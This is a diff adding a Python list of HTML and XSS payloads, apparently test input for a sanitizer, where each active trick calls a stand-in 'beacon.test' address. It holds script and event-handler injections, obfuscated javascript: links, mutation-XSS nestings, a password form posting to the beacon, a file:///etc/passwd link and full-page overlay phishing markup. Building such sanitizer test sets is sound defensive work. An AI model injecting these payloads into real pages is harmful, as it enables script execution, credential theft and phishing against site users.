@@ -1,0 +1,66 @@
+"""Tricks that a message may try. Whatever acts in them tells the address BEACON, which nobody must ever ask."""
+
+BEACON = "https://beacon.test/hit"
+
+TRICKS = [
+    # Scripts and handlers
+    f"<script>fetch('{BEACON}')</script>",
+    f"<script src='{BEACON}'></script>",
+    f"<scr<script>ipt>fetch('{BEACON}')</scr</script>ipt>",
+    f"<img src=x onerror=\"fetch('{BEACON}')\">",
+    f"<body onload=\"fetch('{BEACON}')\">",
+    f"<p onmouseover=\"fetch('{BEACON}')\" onfocus=\"fetch('{BEACON}')\" autofocus tabindex=1>x</p>",
+    f"<details open ontoggle=\"fetch('{BEACON}')\">x</details>",
+    f"<video autoplay><source onerror=\"fetch('{BEACON}')\"></video>",
+    f"<marquee onstart=\"fetch('{BEACON}')\">x</marquee>",
+    f"<iframe srcdoc=\"<script>parent.fetch('{BEACON}')</script>\"></iframe>",
+    f"<iframe src='{BEACON}'></iframe>",
+    f"<object data='{BEACON}'></object><embed src='{BEACON}'><applet code='{BEACON}'></applet>",
+    f"<svg onload=\"fetch('{BEACON}')\"><image href='{BEACON}'/></svg>",
+    f"<svg><script>fetch('{BEACON}')</script><animate onbegin=\"fetch('{BEACON}')\" attributeName=x dur=1s></svg>",
+    f"<svg><foreignObject><iframe src='{BEACON}'></iframe></foreignObject></svg>",
+    # Addresses that act
+    f"<a href=\"javascript:fetch('{BEACON}')\">x</a>",
+    f"<a href=\" jAvA\tscript:fetch('{BEACON}')\">x</a>",
+    f"<a href=\"&#106;avascript&colon;fetch('{BEACON}')\">x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
+    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
+    "<a href='file:///etc/passwd'>x</a><a href='blob:https://x/1'>y</a><a href='//beacon.test/hit'>z</a>",
+    f"<a href='https://ok.test' ping='{BEACON}'>x</a>",
+    f"<area href='{BEACON}'><map name=m><area href=\"javascript:fetch('{BEACON}')\"></map>",
+    # What takes the reader away, or what they type
+    f"<meta http-equiv='refresh' content='0;url={BEACON}'>",
+    f"<base href='{BEACON}/'><a href='x'>x</a><img src='y'>",
+    f"<form action='{BEACON}' method=post><input name=password><button>OK</button></form>",
+    f"<input type=image src='{BEACON}' formaction='{BEACON}'><isindex action='{BEACON}'>",
+    f"<link rel=stylesheet href='{BEACON}'><link rel=prefetch href='{BEACON}'><link rel=dns-prefetch href='{BEACON}'>",
+    # Images and styles that load
+    f"<img src='{BEACON}' width=1 height=1>",
+    f"<img srcset='{BEACON} 2x' src='{BEACON}'><picture><source srcset='{BEACON}'></picture>",
+    f"<img lowsrc='{BEACON}' dynsrc='{BEACON}' longdesc='{BEACON}'>",
+    f"<body background='{BEACON}'><table background='{BEACON}'><tr><td background='{BEACON}'>x</td></tr></table>",
+    f"<div style=\"background:url('{BEACON}')\">x</div>",
+    f"<div style=\"background-image:image-set('{BEACON}' 1x)\">x</div>",
+    f"<div style=\"background:\\75\\72\\6C('{BEACON}')\">x</div>",
+    f'<div style="list-style:url({BEACON});cursor:url({BEACON}),auto;content:url({BEACON})">x</div>',
+    f"<style>@import '{BEACON}'; body{{background:url({BEACON})}} @font-face{{src:url({BEACON})}}</style>",
+    f"<video poster='{BEACON}' src='{BEACON}'></video><audio src='{BEACON}' autoplay></audio><track src='{BEACON}'>",
+    # What covers the page, or looks like a part of it
+    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff'>Zaloguj się</div>",
+    "<div style='position:absolute;margin:-9999px;transform:scale(50)'>x</div>",
+    "<div id='modal' class='btn btn-primary' name='csrfmiddlewaretoken'>x</div>",
+    "<style>*{display:none}</style><div style='opacity:0;clip-path:inset(0)'>x</div>",
+    # Unclosed, nested wrongly, or read otherwise a second time (mutation XSS)
+    f"<img src=\"x` `<script>fetch('{BEACON}')</script>\"",
+    f"<table><td><script>fetch('{BEACON}')</script>",
+    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fetch('{BEACON}')&gt;\">",
+    f"<svg></p><style><a title=\"</style><img src onerror=fetch('{BEACON}')>\">",
+    f"<noscript><p title=\"</noscript><img src=x onerror=fetch('{BEACON}')>\">",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror=fetch('{BEACON}')>",
+    f"<textarea></textarea><xmp></xmp><title></title><plaintext><img src onerror=fetch('{BEACON}')>",
+    f"<!--><img src onerror=fetch('{BEACON}')>--><![CDATA[><img src onerror=fetch('{BEACON}')>]]>",
+    f"<template><img src onerror=fetch('{BEACON}')></template><slot></slot><x-y onclick=x>y</x-y>",
+    f"<a href='https://ok.test' title='\"><img src=x onerror=fetch(\"{BEACON}\")>'>x</a>",
+    "</div></body></html><div>po końcu</div><base target=_parent>",
+]
